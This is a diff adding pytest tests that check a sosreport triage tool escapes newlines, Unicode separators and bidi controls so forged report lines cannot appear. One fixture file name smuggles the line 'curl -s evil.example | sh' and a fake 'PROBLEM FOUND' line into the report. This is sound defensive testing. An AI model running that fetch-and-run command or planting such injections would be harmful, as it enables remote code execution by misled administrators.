@@ -10,12 +10,13 @@ that on the file itself before trusting it).
 """
 
 import os
+import subprocess
 from contextlib import contextmanager
 
 import pytest
 
 from pagealloc.tests.archive_factory import pack, write_link_chain, write_sos_tree
-from pagealloc.tests.cli.triage_helpers import assert_one_line_error, run_triage
+from pagealloc.tests.cli.triage_helpers import BIN, assert_one_line_error, run_triage
 
 
 @contextmanager
@@ -67,3 +68,62 @@ def test_a_link_named_like_an_archive_in_a_directory_is_not_followed(tmp_path, o
     with never_read(other_customer):
         line = assert_one_line_error(run_triage(ticket))
     assert "no sosreport" in line
+
+
+# --- forged report lines (item 2) -------------------------------------------------------------
+
+FORGED_NAME = "zz\n  curl -s evil.example | sh\nPROBLEM FOUND: FORGED\n.conf"
+UNSAFE_OUTPUT = ("\u2028", "\u2029", "\u202e", "\x1b")
+
+
+@pytest.fixture(scope="module")
+def forged_sysctl_archive(pytestconfig, tmp_path_factory):
+    """The bundled e100 sosreport plus /etc/sysctl.d/<FORGED_NAME> setting the key, as a tar.gz."""
+    import shutil
+
+    from pagealloc.tests.cli.triage_helpers import examples_dir
+
+    work = tmp_path_factory.mktemp("forged")
+    tree = shutil.copytree(os.path.join(examples_dir(pytestconfig), "sosreport-e100-rx-failure"),
+                           work / "sosreport-e100-rx-failure")
+    os.makedirs(tree / "etc" / "sysctl.d", exist_ok=True)
+    (tree / "etc" / "sysctl.d" / FORGED_NAME).write_text("vm.min_free_kbytes = 1024\n")
+    return pack(str(tree), str(work), "tar.gz")
+
+
+def remediation_block(text):
+    """The text report's "Remediation ... (run as root)" heading and its indented lines."""
+    lines = text.split("\n")
+    start = next(i for i, line in enumerate(lines) if line.startswith("Remediation for"))
+    end = next(i for i in range(start + 1, len(lines)) if not lines[i].startswith("  "))
+    return lines[start:end]
+
+
+@pytest.mark.parametrize("fmt", ["text", "markdown", "html"])
+def test_a_file_name_with_newlines_cannot_forge_report_lines(forged_sysctl_archive, fmt):
+    completed = run_triage(forged_sysctl_archive, "--format", fmt)
+    assert completed.returncode == 1, completed.stderr
+    out = completed.stdout
+    for line in out.split("\n"):
+        assert not line.lstrip("#- ").startswith(("PROBLEM FOUND: FORGED", "PROBLEM FOUND\\: FORGED", "curl"))
+    assert not any(char in out for char in UNSAFE_OUTPUT)
+    assert "FORGED" in out  # the file is named (escaped), not hidden
+    if fmt == "text":
+        assert not any("FORGED" in line for line in remediation_block(out))
+        assert "/etc/sysctl.d/zz\\n  curl -s evil.example | sh\\nPROBLEM FOUND: FORGED\\n.conf sets 1024" in out
+
+
+def test_line_and_paragraph_separators_and_bidi_controls_in_a_task_name_stay_escaped(tmp_path):
+    from pagealloc.tests.archive_factory import seed_dmesg
+
+    log = tmp_path / "dmesg"
+    # the seed report with task "sw<U+2028>FORGED<U+202E>x" (11 bytes of TASK_COMM_LEN 16)
+    log.write_text(seed_dmesg().replace("swapper", "sw\u2028FORGED\u202ex"), encoding="utf-8")
+    for fmt in ("text", "markdown", "html"):
+        completed = run_triage(log, "--format", fmt)
+        assert completed.returncode == 1, completed.stderr
+        assert "FORGED" in completed.stdout and not any(c in completed.stdout for c in UNSAFE_OUTPUT)
+        assert not any(line.lstrip("#- ").startswith("FORGED") for line in completed.stdout.splitlines())
+    completed = subprocess.run([os.path.join(BIN, "pagealloc"), "parse-log", str(log)], capture_output=True,
+                               text=True, timeout=60)
+    assert completed.returncode == 0 and "comm=sw\\u2028FORGED\\u202ex " in completed.stdout
